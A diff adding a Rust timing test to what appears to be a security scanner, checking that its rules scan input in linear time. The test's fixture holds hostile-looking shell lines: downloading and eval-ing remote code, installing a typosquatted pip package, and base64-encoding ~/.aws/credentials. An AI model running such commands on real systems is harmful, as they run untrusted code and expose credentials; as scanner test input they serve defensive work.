@@ -387,6 +387,34 @@ mod tests {
         assert!(scan(files, Allows::Show).has_errors());
     }
 
+    /// Every rule is linear in its input: four times the text takes about four times as long.
+    /// A quadratic rule (one that rescans the rest of the file per line, as the download rule
+    /// once did per `curl -o`) takes sixteen times as long here.
+    #[test]
+    fn scanning_is_linear_in_the_input() {
+        let unit = "curl -o f http://203.0.113.9/f\nx=$(curl -s https://x.example/a)\n\
+                    y=$x$x\neval \"$y\"\nchmod +x f\n<!-- note\npip install reqeusts\n\
+                    cat ~/.aws/credentials | base64\nfor n in a b; do echo $n; done\n(((\n";
+        let text = |bytes: usize| unit.repeat(bytes / unit.len());
+        let time = |text: &str| {
+            (0..2)
+                .map(|_| {
+                    let start = std::time::Instant::now();
+                    let files = [ScanFile {
+                        path: "scripts/run.sh",
+                        bytes: text.as_bytes(),
+                    }];
+                    std::hint::black_box(scan(files, Allows::Show));
+                    start.elapsed()
+                })
+                .min()
+                .expect("two runs")
+        };
+        let (small, large) = (text(1 << 20), text(4 << 20));
+        let ratio = time(&large).as_secs_f64() / time(&small).as_secs_f64();
+        assert!(ratio < 8.0, "4 MiB took {ratio:.1} times as long as 1 MiB");
+    }
+
     /// Prints the time each rule takes over every text file of the shared corpus
     /// (`cargo test --release --lib security::tests::time_rules -- --ignored --nocapture`).
     #[test]
